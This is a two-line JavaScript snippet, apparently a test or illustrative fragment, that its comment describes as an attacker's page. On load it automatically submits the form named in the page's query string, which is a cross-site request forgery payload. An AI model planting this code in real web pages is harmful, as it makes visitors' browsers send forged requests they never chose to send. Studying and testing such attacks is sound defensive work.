// What an attacker's page does as soon as somebody visits it: it submits the form that its address names.
document.forms.namedItem(location.search.slice(1))?.submit()
